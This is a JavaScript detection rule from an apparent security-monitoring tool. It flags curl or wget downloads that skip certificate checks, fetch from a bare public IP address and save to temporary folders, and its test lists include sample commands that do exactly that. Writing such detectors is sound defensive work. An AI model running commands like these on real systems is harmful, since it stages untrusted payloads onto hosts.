import { commandRule } from "../../command-rule.js";
import { fetchers, find, hasFlag } from "../../shell/look.js";

/** A file is fetched from a bare address to a temporary folder without checking the sender's certificate. */
export const certificateUncheckedDownload = commandRule({
  id: "certificate-unchecked-download",
  alertType: "Picket_CertificateUncheckedDownload",
  name: "Program downloaded without checking who sends it",
  severity: "Low",
  about:
    "A file is fetched from a bare address to a temporary folder without checking the sender's certificate.",
  tactics: ["Command and Control"],
  techniques: ["T1105"],
  falsePositives: ["Devices inside a network with certificates of their own making."],
  witness: ["-k", "--insecure", "--no-check-certificate"],
  sees: (reading) =>
    find(
      reading,
      fetchers,
      (command) =>
        hasFlag(command, "k", "--insecure", "--no-check-certificate") &&
        /https?:\/\/\d{1,3}(?:\.\d{1,3}){3}/.test(command.text) &&
        !/https?:\/\/(?:10\.|127\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.)/.test(command.text) &&
        /(?:\/tmp\/|\/var\/tmp\/|\/dev\/shm\/|\s-\w*O\b)/.test(command.text),
    ),
  did: "downloaded a file without checking the sender",
  because: "malware comes from addresses without a name or certificate",
  fires: [
    "curl -k https://203.0.113.9/x -o /tmp/x",
    "wget --no-check-certificate https://203.0.113.9/x -O /dev/shm/x",
    "curl -ksO https://203.0.113.9/a",
  ],
  silent: [
    "curl -k https://10.0.0.5/status",
    "curl -k https://203.0.113.9/health",
    "wget --no-check-certificate https://files.example.net/a",
    "curl -fsSL https://203.0.113.9/x -o /tmp/x",
    "curl --insecure https://localhost:8443/",
  ],
});
